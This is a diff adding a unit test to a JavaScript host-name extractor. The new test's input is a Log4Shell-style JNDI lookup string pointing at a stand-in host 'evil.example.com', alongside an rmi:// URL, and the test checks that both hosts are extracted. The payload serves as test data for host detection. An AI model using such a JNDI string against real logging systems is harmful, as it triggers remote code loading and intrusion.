@@ -60,6 +60,11 @@ describe('domains', () => {
       .toEqual([]);
   });
 
+  it('finds the host of a URL scheme it does not report, as in a JNDI lookup', () => {
+    expect(values('${jndi:ldap://evil.example.com:1389/a} rmi://198.51.100.4/b'))
+      .toEqual(['evil.example.com', '198.51.100.4']);
+  });
+
   it('finds bare names in commands, in lowercase', () => {
     expect(values('openssl s_client -connect example.net:443')).toEqual(['example.net']);
     expect(values('PING CDN.EXAMPLE.ORG.')).toEqual(['cdn.example.org']);
